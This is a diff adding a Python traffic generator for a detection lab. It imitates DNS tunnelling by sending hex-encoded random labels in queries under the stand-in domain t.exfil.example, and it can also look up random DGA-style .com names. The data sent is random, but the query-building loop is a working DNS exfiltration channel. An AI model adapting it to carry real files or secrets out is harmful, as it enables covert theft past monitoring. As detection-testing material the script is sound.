@@ -1,0 +1,39 @@
+#!/usr/bin/env python3
+# SPDX-License-Identifier: Apache-2.0
+"""Sends data hex-encoded in DNS query names under --domain to --server, as DNS tunnels
+(iodine, dnscat) do. For the detection lab only."""
+import argparse
+import os
+import random
+import socket
+import struct
+
+parser = argparse.ArgumentParser()
+parser.add_argument("--server", required=True)
+parser.add_argument("--domain", default="t.exfil.example")
+parser.add_argument("--queries", type=int, default=80)
+parser.add_argument("--dga", type=int, default=0, help="also look up this many random .com names")
+args = parser.parse_args()
+sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+sock.settimeout(0.2)
+for index in range(args.queries):
+    label = os.urandom(24).hex()  # 48 characters of "data"
+    name = "%s.%d.%s" % (label, index, args.domain)
+    question = b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\0"
+    packet = struct.pack("!HHHHHH", index, 0x0100, 1, 0, 0, 0) + question + struct.pack("!HH", 16, 1)
+    sock.sendto(packet, (args.server, 53))
+    try:
+        sock.recv(512)
+    except socket.timeout:
+        pass
+LETTERS = "bcdfghjklmnpqrstvwxz"
+for index in range(args.dga):
+    name = "".join(random.choice(LETTERS) for _ in range(14)) + ".com"
+    question = b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\0"
+    sock.sendto(struct.pack("!HHHHHH", 1000 + index, 0x0100, 1, 0, 0, 0) + question +
+                struct.pack("!HH", 1, 1), (args.server, 53))
+    try:
+        sock.recv(512)
+    except socket.timeout:
+        pass
+print("queries:", args.queries, "generated names:", args.dga)
